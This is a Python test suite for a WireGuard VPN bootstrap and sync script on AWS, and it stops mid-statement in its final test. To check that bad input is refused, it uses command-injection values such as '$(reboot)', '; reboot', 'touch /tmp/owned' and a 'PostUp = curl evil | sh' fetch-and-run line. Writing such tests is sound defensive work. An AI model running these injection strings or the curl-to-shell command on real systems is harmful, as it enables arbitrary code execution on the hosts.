"""deploy/instance/: the instance bootstrap (stingy-vpn-instance) and its units.

RenderTest drives `render` (pure, no AWS). BootstrapTest and SyncTest run
`bootstrap` and `sync` in a temporary STINGY_ROOT against moto, with a fake
IMDS (IMDSv2 only) and fake wg, ip, systemctl, sysctl and dnf on PATH.
RealSyncTest runs `sync` against a real wireguard-go interface in a network
namespace, with a client in a second namespace, when run as root with the
tools installed. UnitsTest checks the systemd units.
"""
import base64
import hashlib
import http.server
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import threading
import time
import unittest
import urllib.error
import urllib.request

from harness import CREDS, REGION, Moto, free_port, wait_for, wireguard_netns_support

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
DIR = os.path.join(ROOT, "deploy", "instance")
SCRIPT = os.path.join(DIR, "stingy-vpn-instance")
AWS_BIN = shutil.which("aws")


def key(n):
    """A fixed, valid-looking WireGuard key (44 base64 characters)."""
    return base64.b64encode(hashlib.sha256(b"instance%d" % n).digest()).decode()


PRIV = key(0)
PUB1, PUB2, PUB3 = key(1), key(2), key(3)
PSK = key(4)
ENV = ("# written by the user data\n"
       "STINGY_PREFIX=/stingy-vpn        # SSM prefix\n"
       "STINGY_PORT=51820                # WireGuard UDP listen port\n"
       "STINGY_CIDR=10.8.0.0/24          # tunnel network\n"
       "STINGY_VPC_CIDR=10.0.0.0/16\n"
       "AWS_REGION=%s\n" % REGION)
PEERS = ("# alice's phone\n"
         "[Peer]\n"
         "PublicKey = %s\n"
         "PresharedKey = %s\n"
         "AllowedIPs = 10.8.0.2/32\n"
         "PersistentKeepalive = 25\n"
         "\n"
         "[Peer]   # bob\n"
         "PublicKey = %s\n"
         "AllowedIPs = 10.8.0.3/32, fd00:8::3/128\n") % (PUB1, PSK, PUB2)


def clean_env(**extra):
    env = {k: v for k, v in os.environ.items() if not k.startswith(("STINGY_", "AWS_"))}
    env.update(extra)
    return env


def write(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", newline="") as f:
        f.write(text)
    os.chmod(path, mode)
    return path


def script(dirpath, name, body):
    return write(os.path.join(dirpath, name), "#!/bin/sh\n" + body, 0o755)


class ScriptTest(unittest.TestCase):
    shell = None    # None: run the script directly (its #!/bin/sh)

    def run_script(self, *args, env=None, input=None, timeout=60):
        cmd = ([self.shell] if self.shell else []) + [SCRIPT] + list(args)
        return subprocess.run(cmd, env=env, input=input, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, universal_newlines=True, timeout=timeout)

    def assertOk(self, r):
        self.assertEqual(r.returncode, 0, "exit %d\nstdout: %s\nstderr: %s"
                         % (r.returncode, r.stdout, r.stderr))


class RenderTest(ScriptTest):

    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="stingy-instance-")
        self.addCleanup(shutil.rmtree, self.dir, ignore_errors=True)
        self.envfile = write(os.path.join(self.dir, "instance.env"), ENV)
        self.keyfile = write(os.path.join(self.dir, "key"), PRIV + "\n", 0o600)

    def render(self, peers=PEERS, env_text=None, nat=True, wan="ens5", extra=(), **env):
        if env_text is not None:
            write(self.envfile, env_text)
        e = clean_env(STINGY_INSTANCE_ENV=self.envfile, **env)
        if wan:
            e["STINGY_WAN_IF"] = wan
        args = ["render", "--key", self.keyfile] + ([] if nat else ["--no-nat"]) + list(extra)
        return self.run_script(*args, env=e, input=peers)

    def test_interface_nat_and_peers(self):
        r = self.render()
        self.assertOk(r)
        lines = r.stdout.splitlines()
        iface = lines[:lines.index("# alice's phone")]
        self.assertIn("[Interface]", iface)
        self.assertIn("Address = 10.8.0.1/24", iface)
        self.assertIn("ListenPort = 51820", iface)
        self.assertIn("PrivateKey = " + PRIV, iface)
        up = [l for l in iface if l.startswith("PostUp = ")]
        down = [l for l in iface if l.startswith("PostDown = ")]
        self.assertEqual(len(up), 1, r.stdout)
        self.assertEqual(down, ["PostDown = nft delete table ip stingy_vpn"])
        self.assertIn('oifname "ens5" ip saddr 10.8.0.0/24 masquerade', up[0])
        self.assertIn('iifname "%i" oifname "ens5" accept', up[0])
        self.assertIn('iifname "ens5" oifname "%i" ct state established,related accept', up[0])
        self.assertNotIn("eth0", r.stdout)
        self.assertNotIn("#", "".join(iface[1:]), "wg-quick cuts lines at '#'")
        self.assertEqual(lines[lines.index("# alice's phone"):], [
            "# alice's phone", "[Peer]", "PublicKey = " + PUB1, "PresharedKey = " + PSK,
            "AllowedIPs = 10.8.0.2/32", "PersistentKeepalive = 25", "",
            "[Peer]", "PublicKey = " + PUB2, "AllowedIPs = 10.8.0.3/32, fd00:8::3/128"])
        self.assertEqual(r.stderr, "")

    def test_other_network_and_port(self):
        r = self.render(env_text=ENV.replace("51820", "443").replace(
            "10.8.0.0/24", "172.31.250.0/23"), peers="")
        self.assertOk(r)
        self.assertIn("Address = 172.31.250.1/23\n", r.stdout)
        self.assertIn("ListenPort = 443\n", r.stdout)
        self.assertIn("ip saddr 172.31.250.0/23 masquerade", r.stdout)
        self.assertNotIn("[Peer]", r.stdout)

    def test_no_nat(self):
        r = self.render(nat=False, wan=None)
        self.assertOk(r)
        self.assertNotIn("PostUp", r.stdout)
        self.assertNotIn("PostDown", r.stdout)
        self.assertIn("PublicKey = " + PUB2, r.stdout)

    def fake_ip(self, route):
        bindir = os.path.join(self.dir, "bin")
        log = os.path.join(self.dir, "ip.log")
        script(bindir, "ip", 'echo "$*" >>%s\n[ "$*" = "-4 route show default" ] || exit 1\n'
               "printf '%%s\\n' '%s'\n" % (log, route))
        return bindir, log

    def test_wan_interface_from_the_default_route(self):
        for dev in ("ens5", "enX0"):
            with self.subTest(dev=dev):
                bindir, log = self.fake_ip("default via 10.0.0.1 dev %s proto dhcp src 10.0.0.23 "
                                           "metric 512" % dev)
                r = self.render(wan=None, PATH=bindir + ":" + os.environ["PATH"])
                self.assertOk(r)
                self.assertIn('oifname "%s" ip saddr 10.8.0.0/24 masquerade' % dev, r.stdout)
                self.assertIn('iifname "%s" oifname "%%i" ct state' % dev, r.stdout)
                self.assertNotIn("eth0", r.stdout)
                with open(log) as f:
                    self.assertIn("-4 route show default", f.read())
                os.unlink(log)

    def test_no_default_route_is_refused(self):
        bindir, _ = self.fake_ip("")
        r = self.render(wan=None, PATH=bindir + ":" + os.environ["PATH"])
        self.assertNotEqual(r.returncode, 0)
        self.assertEqual(r.stdout, "")
        self.assertIn("default-route interface", r.stderr)
        r = self.render(wan="en;rm")
        self.assertNotEqual(r.returncode, 0)

    def test_bad_peers_are_refused_by_line(self):
        bad_psk = PSK[:-2] + "!="
        good = "[Peer]\nPublicKey = %s\nPresharedKey = %s\n" % (PUB1, PSK)
        cases = [
            (good + "PostUp = touch /tmp/owned\n", 4),
            (good + "AllowedIPs = 10.8.0.2/32\n[Interface]\nPrivateKey = %s\n" % PRIV, 5),
            ("[Interface]\n", 1),
            ("PublicKey = %s\n" % PUB1, 1),
            (good + "Endpoint = 192.0.2.1:51820\n", 4),
            (good + "Table = off\n", 4),
            ("# ok\n\n[Peer]\nPublicKey = %s\n" % (PUB1[:-2] + "="), 4),
            ("[Peer]\nPublicKey = %s\n" % (PUB1[:-1] + "A"), 2),
            ("[Peer]\nPublicKey = %s\n" % ("$(reboot)" + PUB1[9:]), 2),
            ("[Peer]\nPublicKey = %s\nPresharedKey = %s\n" % (PUB1, bad_psk), 3),
            ("[Peer]\nPublicKey = %s\nPresharedKey = %s\n" % (PUB1, PSK + "A"), 3),
            (good + "AllowedIPs = 10.8.0.300/32\n", 4),
            (good + "AllowedIPs = 10.8.0.2/33\n", 4),
            (good + "AllowedIPs = 10.8.0.2/32, 0.0.0.0/0\n", 4),
            (good + "AllowedIPs = 10.8.0.2/32; reboot\n", 4),
            (good + "AllowedIPs = fd00::/129\n", 4),
            (good + "AllowedIPs =\n", 4),
            (good + "PersistentKeepalive = 65536\n", 4),
            (good + "PersistentKeepalive = 25s\n", 4),
            (good + "%s\n" % PSK, 4),
            (good + "PublicKey = %s\n" % PUB2, 4),
            ("[Peer]\nAllowedIPs = 10.8.0.2/32\n[Peer]\nPublicKey = %s\n" % PUB2, 3),
            ("[Peer]\nAllowedIPs = 10.8.0.2/32\n", 2),
        ]
        for text, line in cases:
            with self.subTest(text=text):
                r = self.render(peers=text)
                self.assertNotEqual(r.returncode, 0, r.stdout)
                self.assertEqual(r.stdout, "", "nothing may be printed for a refused list")
                self.assertIn("peers line %d:" % line, r.stderr)
                for secret in (PSK, bad_psk, PSK + "A", PRIV):
                    self.assertNotIn(secret, r.stderr)
                self.assertNotIn("owned", r.stderr)
                self.assertNotIn("reboot", r.stderr)

    def test_accepted_peer_forms(self):
        text = ("\r\n# comment\r\n  [peer]  \r\npublickey=%s\r\n"
                "ALLOWEDIPS = 10.8.0.2 ,10.99.0.0/16,2001:db8::/48   # home LAN\r\n"
                "persistentkeepalive = off\r\n[Peer]\npresharedkey=%s\npublicKey = %s\n"
                "AllowedIPs = ::ffff:10.8.0.9/128\nPersistentKeepalive = 0\n") % (PUB1, PSK, PUB2)
        r = self.render(peers=text)
        self.assertOk(r)
        peers = r.stdout.split("# comment\n", 1)[1]
        self.assertEqual(peers.splitlines(), [
            "[Peer]", "PublicKey = " + PUB1,
            "AllowedIPs = 10.8.0.2, 10.99.0.0/16, 2001:db8::/48",
            "PersistentKeepalive = off", "[Peer]", "PresharedKey = " + PSK,
            "PublicKey = " + PUB2, "AllowedIPs = ::ffff:10.8.0.9/128",
            "PersistentKeepalive = 0"])

    def test_bad_private_key(self):
        for bad in (PRIV[:-1], PRIV[:-2] + "==", "", PRIV[:20] + "$" + PRIV[21:],
                    PRIV + PRIV):
            with self.subTest(key=bad):
                write(self.keyfile, bad + "\n", 0o600)
                r = self.render()
                self.assertNotEqual(r.returncode, 0)
                self.assertEqual(r.stdout, "")
                self.assertIn("bad private key", r.stderr)
                if bad:
                    self.assertNotIn(bad, r.stderr)

    def test_bad_env_is_refused_naming_file_and_line(self):
        base = ENV.splitlines()
        cases = [
            (2, "STINGY_PREFIX=stingy-vpn"),
            (2, "STINGY_PREFIX=/stingy vpn"),
            (2, "STINGY_PREFIX=/x$(touch %s)" % os.path.join(self.dir, "owned")),
            (3, "STINGY_PORT=0"),
            (3, "STINGY_PORT=65536"),
            (3, "STINGY_PORT=51820x"),
            (3, "STINGY_PORT = 51820"),
            (4, "STINGY_CIDR=10.8.0.0/33"),
            (4, "STINGY_CIDR=10.8.0.256/24"),
            (4, "STINGY_CIDR=10.8.0.1/24"),
            (4, "STINGY_CIDR=10.8.0.0"),
            (4, "STINGY_CIDR=10.8.0.0/31"),
            (4, "STINGY_CIDR=010.8.0.0/24"),
            (5, "STINGY_VPC_CIDR=10.8.0.0/16"),
            (5, "STINGY_VPC_CIDR=10.8.0.128/25"),
            (5, "STINGY_VPC_CIDR=0.0.0.0/0"),
            (6, "AWS_REGION=eu-west-1; reboot"),
            (6, "STINGY_MTU=1420"),
            (6, "touch %s" % os.path.join(self.dir, "owned")),
        ]
        for line, text in cases:
            with self.subTest(line=text):
                lines = list(base)
                lines[line - 1] = text
                r = self.render(env_text="\n".join(lines) + "\n")
                self.assertNotEqual(r.returncode, 0, r.stdout)
                self.assertEqual(r.stdout, "")
                self.assertIn("%s:%d:" % (self.envfile, line), r.stderr)
                self.assertFalse(os.path.exists(os.path.join(self.dir, "owned")),
                                 "the env file was executed")
        r = self.render(env_text=ENV.replace("AWS_REGION", "#AWS_REGION"))
        self.assertNotEqual(r.returncode, 0)
        self.assertIn("AWS_REGION is missing", r.stderr)
        r = self.render(env_text=ENV.replace("10.0.0.0/16", "10.8.1.0/24"))
        self.assertOk(r)
        os.unlink(self.envfile)
        r = self.render()
        self.assertNotEqual(r.returncode, 0)
        self.assertIn(self.envfile, r.stderr)

    def test_default_env_path_under_the_root(self):
        root = os.path.join(self.dir, "root")
        write(os.path.join(root, "etc", "stingy-vpn", "instance.env"),
              ENV.replace("51820", "4500"))
        e = clean_env(STINGY_ROOT=root, STINGY_WAN_IF="ens5")
        r = self.run_script("render", "--key", self.keyfile, "--peers", "/dev/null", env=e)
        self.assertOk(r)
        self.assertIn("ListenPort = 4500\n", r.stdout)

    def test_output_parses_with_wg_quick_strip(self):
        if not shutil.which("wg-quick"):
            self.skipTest("needs wg-quick (apt-get install wireguard-tools)")
        r = self.render()
        self.assertOk(r)
        conf = write(os.path.join(self.dir, "wg0.conf"), r.stdout, 0o600)
        s = subprocess.run(["wg-quick", "strip", conf], stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, universal_newlines=True, timeout=20)
        self.assertEqual(s.returncode, 0, s.stderr)
        self.assertEqual(s.stderr, "")
        wg_keys = {"PrivateKey", "ListenPort", "PublicKey", "PresharedKey", "AllowedIPs",
                   "PersistentKeepalive"}
        for line in s.stdout.splitlines():
            if line in ("", "[Interface]", "[Peer]") or line.startswith("#"):
                continue
            k = line.split("=", 1)[0].strip()
            self.assertIn(k, wg_keys, "wg setconf would not take: " + line)
        self.assertIn("PrivateKey = " + PRIV, s.stdout)
        self.assertEqual(s.stdout.count("[Peer]"), 2)

    def test_bad_usage(self):
        e = clean_env(STINGY_INSTANCE_ENV=self.envfile)
        for args in ([], ["frobnicate"], ["render"], ["render", "--key"],
                     ["render", "--key", self.keyfile, "--bogus"], ["sync", "now"],
                     ["bootstrap", "-f"]):
            with self.subTest(args=args):
                r = self.run_script(*args, env=e, input="")
                self.assertEqual(r.returncode, 2, r.stderr)
                self.assertIn("usage", r.stderr)
                self.assertEqual(r.stdout, "")


class RenderBashTest(RenderTest):
    """The same under bash: Amazon Linux 2023's /bin/sh is bash."""
    shell = shutil.which("bash")


class ScriptFileTest(unittest.TestCase):

    def test_executable_posix_sh_and_small(self):
        self.assertTrue(os.access(SCRIPT, os.X_OK), SCRIPT + " should be executable")
        with open(SCRIPT, "rb") as f:
            data = f.read()
        self.assertTrue(data.startswith(b"#!/bin/sh\n"))
        self.assertIn(b"\nset -eu\n", data)
        self.assertLess(len(data), 10 * 1024, "the user data embeds it: keep it small")

    @unittest.skipUnless(shutil.which("shellcheck"),
                         "shellcheck is not installed (apt-get install shellcheck)")
    def test_shellcheck_clean(self):
        r = subprocess.run(["shellcheck", "-s", "sh", SCRIPT], stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, universal_newlines=True, timeout=60)
        self.assertEqual(r.returncode, 0, r.stdout)


class UnitsTest(unittest.TestCase):

    def read(self, name):
        with open(os.path.join(DIR, name)) as f:
            return f.read()

    def test_unit_contents(self):
        svc = self.read("stingy-vpn-sync.service").splitlines()
        self.assertIn("Type=oneshot", svc)
        self.assertIn("ExecStart=/usr/local/sbin/stingy-vpn-instance sync", svc)
        timer = self.read("stingy-vpn-sync.timer").splitlines()
        for line in ("OnBootSec=1min", "OnUnitActiveSec=1min", "AccuracySec=10s",
                     "Unit=stingy-vpn-sync.service", "WantedBy=timers.target"):
            self.assertIn(line, timer)

    @unittest.skipUnless(shutil.which("systemd-analyze"), "needs systemd-analyze")
    def test_systemd_analyze_verify(self):
        d = tempfile.mkdtemp(prefix="stingy-units-")
        self.addCleanup(shutil.rmtree, d, ignore_errors=True)
        svc = self.read("stingy-vpn-sync.service").replace(
            "/usr/local/sbin/stingy-vpn-instance", SCRIPT)     # an ExecStart that exists
        write(os.path.join(d, "stingy-vpn-sync.service"), svc)
        write(os.path.join(d, "stingy-vpn-sync.timer"), self.read("stingy-vpn-sync.timer"))
        r = subprocess.run(["systemd-analyze", "verify", os.path.join(d, "stingy-vpn-sync.service"),
                            os.path.join(d, "stingy-vpn-sync.timer")],
                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                           universal_newlines=True, timeout=60)
        # verify exits 0 on some problems (an unknown key, a bad time): want silence too
        self.assertEqual((r.returncode, r.stdout), (0, ""))


# ---- AWS side: one moto for the module, reset for each test ----

_MOTO = []


def moto():
    if not _MOTO:
        m = Moto()
        m.start()
        _MOTO.append(m)
    return _MOTO[0]


def tearDownModule():
    for m in _MOTO:
        m.stop()


def reset_moto(m):
    req = urllib.request.Request(m.url + "/moto-api/reset", method="POST", data=b"")
    urllib.request.urlopen(req, timeout=10).close()


class FakeIMDS:
    """IMDSv2 only: PUT /latest/api/token needs the TTL header; a GET
    without the token it handed out is refused with 401."""

    def __init__(self, instance_id, allow_put=True):
        self.instance_id = instance_id
        self.allow_put = allow_put
        self.token = "tok-" + key(9)[:20]
        self.requests = []
        imds = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def answer(self, code, body=""):
                data = body.encode()
                self.send_response(code)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_PUT(self):
                ttl = self.headers.get("X-aws-ec2-metadata-token-ttl-seconds")
                imds.requests.append(("PUT", self.path, ttl))
                if not imds.allow_put:
                    return self.answer(403)
                if self.path != "/latest/api/token" or not ttl or not ttl.isdigit():
                    return self.answer(400)
                self.answer(200, imds.token)

            def do_GET(self):
                tok = self.headers.get("X-aws-ec2-metadata-token")
                imds.requests.append(("GET", self.path, tok))
                if tok != imds.token:
                    return self.answer(401)
                if self.path != "/latest/meta-data/instance-id":
                    return self.answer(404)
                self.answer(200, imds.instance_id)

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = "http://127.0.0.1:%d" % self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


FAKES = {
    # wg: `show IF` fails while $FAKE_DIR/down exists; syncconf keeps a copy
    "wg": r"""d=${FAKE_DIR:?}
case $1 in
show)
	if [ -e "$d/down" ]; then
		echo "wg show $2: down" >>"$d/calls.log"
		echo "Unable to access interface: No such device" >&2
		exit 1
	fi
	echo "wg show $2: up" >>"$d/calls.log";;
syncconf)
	echo "wg syncconf $2" >>"$d/calls.log"
	stat -c %a "$3" >"$d/syncconf.mode"
	cp "$3" "$d/syncconf.conf"
	[ ! -e "$d/fail-syncconf" ] || exit 1;;
pubkey) exec /usr/bin/wg pubkey;;
*) echo "wg $*: unexpected" >>"$d/calls.log"; exit 64;;
esac
""",
    "ip": r"""d=${FAKE_DIR:?}
echo "ip $*" >>"$d/calls.log"
case "$*" in
"-4 route show default") echo "default via 10.0.0.1 dev ens5 proto dhcp src 10.0.0.23 metric 512";;
"link show dev wg0 up")
	[ -e "$d/down" ] || echo "5: wg0: <POINTOPOINT,NOARP,UP,LOWER_UP> mtu 8921 state UNKNOWN";;
*) exit 1;;
esac
""",
    "systemctl": 'echo "systemctl $*" >>"${FAKE_DIR:?}/calls.log"\n',
    "sysctl": 'echo "sysctl $*" >>"${FAKE_DIR:?}/calls.log"\n',
    "dnf": 'echo "dnf $*" >>"${FAKE_DIR:?}/calls.log"\n',
}


@unittest.skipUnless(AWS_BIN, "needs the AWS CLI (aws) on PATH")
class AwsTest(ScriptTest):
    """A temporary STINGY_ROOT, fakes on PATH, moto for SSM and EC2."""

    def setUp(self):
        self.moto = moto()
        reset_moto(self.moto)
        self.ssm = self.moto.client("ssm")
        self.ec2 = self.moto.client("ec2")
        self.tmp = tempfile.mkdtemp(prefix="stingy-instance-")
        self.addCleanup(shutil.rmtree, self.tmp, ignore_errors=True)
        self.root = os.path.join(self.tmp, "root")
        self.fake = os.path.join(self.tmp, "fake")
        self.bin = os.path.join(self.fake, "bin")
        write(os.path.join(self.root, "etc", "stingy-vpn", "instance.env"), ENV)
        for name, body in FAKES.items():
            script(self.bin, name, body)
        # the AWS CLI, logging its arguments (never a secret: values come back on stdout)
        self.aws = script(self.fake, "aws", 'echo "aws $*" >>"${FAKE_DIR:?}/calls.log"\n'
                          'PATH=%s exec %s "$@"\n' % (os.environ["PATH"], AWS_BIN))
        self.instance_id = self.ec2.run_instances(
            ImageId="ami-12c6146b", MinCount=1, MaxCount=1,
            InstanceType="t4g.nano")["Instances"][0]["InstanceId"]
        # no /usr/sbin: no nft, so bootstrap wants to install it (with the fake dnf)
        self.env = clean_env(
            PATH="%s:/usr/bin:/bin" % self.bin, HOME=self.tmp, FAKE_DIR=self.fake,
            STINGY_ROOT=self.root, STINGY_AWS=self.aws,
            STINGY_SYSTEMCTL=os.path.join(self.bin, "systemctl"),
            STINGY_SYSCTL=os.path.join(self.bin, "sysctl"), STINGY_WAIT="20",
            AWS_ENDPOINT_URL=self.moto.url, AWS_MAX_ATTEMPTS="2", **CREDS)
        self.conf = os.path.join(self.root, "etc", "wireguard", "wg0.conf")

    def put(self, name, value):
        self.ssm.put_parameter(Name="/stingy-vpn/wireguard/" + name, Value=value,
                               Type="SecureString", Overwrite=True)

    def calls(self):
        try:
            with open(os.path.join(self.fake, "calls.log")) as f:
                return f.read().splitlines()
        except FileNotFoundError:
            return []

    def ready_tags(self):
        r = self.ec2.describe_tags(Filters=[
            {"Name": "resource-id", "Values": [self.instance_id]},
            {"Name": "key", "Values": ["stingy-vpn:ready"]}])
        return [t["Value"] for t in r["Tags"]]

    def assertNoSecrets(self, *texts):
        for t in texts + ("\n".join(self.calls()),):
            for secret in (PRIV, PSK):
                self.assertNotIn(secret, t)

    def wgdir_entries(self):
        return sorted(os.listdir(os.path.dirname(self.conf)))


class BootstrapTest(AwsTest):

    def start_imds(self, **kw):
        imds = FakeIMDS(self.instance_id, **kw)
        self.addCleanup(imds.stop)
        self.env["STINGY_IMDS_URL"] = imds.url
        return imds

    def popen(self, *args):
        p = subprocess.Popen([SCRIPT] + list(args), env=self.env, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, universal_newlines=True)

        def reap():
            if p.poll() is None:
                p.kill()
            p.communicate()
        self.addCleanup(reap)
        return p

    def test_bootstrap_tags_ready_only_once_wg0_is_up(self):
        imds = self.start_imds()
        self.put("private-key", PRIV)
        self.put("peers", PEERS)
        open(os.path.join(self.fake, "down"), "w").close()
        p = self.popen("bootstrap")
        # one `wg show` before wg-quick is started (is it up already?), then the waiting
        wait_for(lambda: sum(l == "wg show wg0: down" for l in self.calls()) >= 3, 30,
                 what="three failing `wg show wg0`")
        self.assertEqual(self.ready_tags(), [], "tagged ready while wg0 is down")
        # by now wg0.conf is there, 0600, with the key
        st = os.stat(self.conf)
        self.assertEqual(stat.S_IMODE(st.st_mode), 0o600)
        with open(self.conf) as f:
            conf = f.read()
        self.assertIn("PrivateKey = %s\n" % PRIV, conf)
        self.assertIn("PublicKey = %s\n" % PUB2, conf)
        self.assertIn('oifname "ens5" ip saddr 10.8.0.0/24 masquerade', conf)
        os.unlink(os.path.join(self.fake, "down"))
        out, err = p.communicate(timeout=60)
        self.assertEqual(p.returncode, 0, err)
        self.assertEqual(self.ready_tags(), ["1"])
        self.assertEqual(out, "")
        self.assertIn("ready", err)
        self.assertNoSecrets(out, err)

        calls = self.calls()
        self.assertIn("dnf -y install wireguard-tools nftables", calls)
        self.assertIn("sysctl -w net.ipv4.ip_forward=1", calls)
        systemctl = [c for c in calls if c.startswith("systemctl")]
        self.assertEqual(systemctl, ["systemctl enable --now wg-quick@wg0",
                                     "systemctl enable --now stingy-vpn-sync.timer"])
        tag = [i for i, c in enumerate(calls) if c.startswith("aws ec2 create-tags")]
        self.assertEqual(len(tag), 1, calls)
        self.assertIn("--resources %s --tags Key=stingy-vpn:ready,Value=1" % self.instance_id,
                      calls[tag[0]])
        self.assertEqual(calls[tag[0] - 2:tag[0]], ["wg show wg0: up", "ip link show dev wg0 up"])
        started = calls.index("systemctl enable --now wg-quick@wg0")
        self.assertEqual(calls[started + 1:started + 3], ["wg show wg0: down"] * 2, calls)
        self.assertGreater(calls.index("systemctl enable --now stingy-vpn-sync.timer"), tag[0])
        gets = [c for c in calls if "get-parameter" in c]
        self.assertTrue(all("--with-decryption" in c for c in gets), gets)

        # IMDSv2: a token first, then the id with it
        self.assertEqual(imds.requests[0][:2], ("PUT", "/latest/api/token"))
        self.assertTrue(imds.requests[0][2])
        self.assertIn(("GET", "/latest/meta-data/instance-id", imds.token), imds.requests)
        self.assertFalse([r for r in imds.requests if r[0] == "GET" and r[2] != imds.token])

        with open(os.path.join(self.root, "etc", "sysctl.d", "90-stingy-vpn.conf")) as f:
            self.assertEqual(f.read(), "net.ipv4.ip_forward = 1\n")
        self.assertEqual(self.wgdir_entries(), ["wg0.conf"], "temporary files left")
        for d, _, files in os.walk(self.tmp):       # the key is in wg0.conf only
            for name in files:
                path = os.path.join(d, name)
                if path != self.conf:
                    with open(path, "rb") as f:
                        self.assertNotIn(PRIV.encode(), f.read(), path)

    def test_waits_for_the_key(self):
        self.start_imds()
        self.env["STINGY_SKIP_INSTALL"] = "1"
        p = self.popen("bootstrap")
        wait_for(lambda: any("private-key" in c for c in self.calls()), 30,
                 what="a first get-parameter")
        time.sleep(0.5)
        self.assertFalse(os.path.exists(self.conf))
        self.put("private-key", PRIV)               # no peers parameter: no peers
        out, err = p.communicate(timeout=60)
        self.assertEqual(p.returncode, 0, err)
        self.assertIn("cannot read /stingy-vpn/wireguard/private-key", err)
        with open(self.conf) as f:
            conf = f.read()
        self.assertIn("PrivateKey = %s\n" % PRIV, conf)
        self.assertNotIn("[Peer]", conf)
        self.assertEqual(self.ready_tags(), ["1"])
        self.assertFalse([c for c in self.calls() if c.startswith("dnf")])
        # wg0 was up already (as in a rerun): reloaded, so the new file is applied
        self.assertEqual([c for c in self.calls() if c.startswith("systemctl")][:2],
                         ["systemctl reload wg-quick@wg0", "systemctl enable --now wg-quick@wg0"])
        self.assertNoSecrets(out, err)

    def test_no_key_fails_clearly(self):
        self.start_imds()
        self.env["STINGY_WAIT"] = "0"
        r = self.run_script("bootstrap", env=self.env)
        self.assertEqual(r.returncode, 1)
        self.assertIn("/stingy-vpn/wireguard/private-key", r.stderr)
        self.assertIn("ParameterNotFound", r.stderr)
        self.assertFalse(os.path.exists(self.conf))
        self.assertFalse([c for c in self.calls() if c.startswith("systemctl")])
        self.assertEqual(self.ready_tags(), [])

    def test_bad_peers_fail_the_bootstrap(self):
        self.start_imds()
        self.env["STINGY_WAIT"] = "0"
        self.put("private-key", PRIV)
        self.put("peers", PEERS + "PostUp = curl evil | sh\n")
        r = self.run_script("bootstrap", env=self.env)
        self.assertEqual(r.returncode, 1)
        self.assertIn("peers line 11:", r.stderr)
        self.assertFalse(os.path.exists(self.conf))
        self.assertEqual(self.ready_tags(), [])
        self.assertNoSecrets(r.stdout, r.stderr)

    def test_wg0_never_up_means_no_tag(self):
        self.start_imds()
        self.env.update(STINGY_WAIT="2", STINGY_SKIP_INSTALL="1")
        self.put("private-key", PRIV)
        open(os.path.join(self.fake, "down"), "w").close()
        r = self.run_script("bootstrap", env=self.env)
        self.assertEqual(r.returncode, 1)
        self.assertIn("not up", r.stderr)
        self.assertEqual(self.ready_tags(), [])
        self.assertNotIn("systemctl enable --now stingy-vpn-sync.timer", self.calls())

    def test_imdsv2_only(self):
        imds = self.start_imds()
        # the fake refuses what IMDSv1 would do: a GET without a token
        with self.assertRaises(urllib.error.HTTPError) as cm:
            urllib.request.urlopen(imds.url + "/latest/meta-data/instance-id", timeout=5)
        self.assertEqual(cm.exception.code, 401)
        imds.allow_put = False                      # no token to be had
        self.env["STINGY_SKIP_INSTALL"] = "1"
        self.put("private-key", PRIV)
        r = self.run_script("bootstrap", env=self.env)
        self.assertEqual(r.returncode, 1)
        self.assertIn("IMDSv2 token", r.stderr)
        self.assertFalse(os.path.exists(self.conf))
        self.assertEqual(self.ready_tags(), [])
        self.assertEqual(self.calls(), [])
        self.env["STINGY_IMDS_URL"] = "http://127.0.0.1:%d" % free_port()   # nothing there
        r = self.run_script("bootstrap", env=self.env)
        self.assertEqual(r.returncode, 1)
        self.assertIn("IMDSv2", r.stderr)


class SyncTest(AwsTest):

    def setUp(self):
        super().setUp()
        self.put("private-key", PRIV)
        self.put("peers", PEERS)

    def sync(self):
        r = self.run_script("sync", env=self.env)
        self.assertNoSecrets(r.stdout, r.stderr)
        return r

    def test_sync_applies_changes_and_is_quiet_otherwise(self):
        r = self.sync()                         # no wg0.conf yet
        self.assertOk(r)
        self.assertIn("applied", r.stderr)
        self.assertIn("wg syncconf wg0", self.calls())
        with open(os.path.join(self.fake, "syncconf.mode")) as f:
            self.assertEqual(f.read().strip(), "600")
        with open(os.path.join(self.fake, "syncconf.conf")) as f:
            stripped = f.read()
        self.assertIn("PrivateKey = " + PRIV, stripped)
        self.assertIn("PublicKey = " + PUB2, stripped)
        self.assertNotIn("Address", stripped)
        self.assertNotIn("PostUp", stripped)
        self.assertEqual(stat.S_IMODE(os.stat(self.conf).st_mode), 0o600)
        self.assertEqual(self.wgdir_entries(), ["wg0.conf"], "temporary files left")

        before = os.stat(self.conf)
        os.unlink(os.path.join(self.fake, "calls.log"))
        r = self.sync()
        self.assertOk(r)
        self.assertEqual((r.stdout, r.stderr), ("", ""))
        after = os.stat(self.conf)
        self.assertEqual((after.st_ino, after.st_mtime_ns), (before.st_ino, before.st_mtime_ns))
        self.assertNotIn("wg syncconf wg0", self.calls())
        self.assertEqual(self.wgdir_entries(), ["wg0.conf"])

        self.put("peers", PEERS + "\n[Peer]\nPublicKey = %s\nAllowedIPs = 10.8.0.4/32\n" % PUB3)
        r = self.sync()
        self.assertOk(r)
        with open(self.conf) as f:
            self.assertIn("PublicKey = " + PUB3, f.read())
        with open(os.path.join(self.fake, "syncconf.conf")) as f:
            self.assertIn("PublicKey = " + PUB3, f.read())
        self.assertIn("3 peers", r.stderr)

    def test_new_key_is_applied_and_its_public_key_logged(self):
        self.assertOk(self.sync())
        new = subprocess.run(["wg", "genkey"], stdout=subprocess.PIPE, universal_newlines=True,
                             check=True).stdout.strip()
        pub = subprocess.run(["wg", "pubkey"], input=new, stdout=subprocess.PIPE,
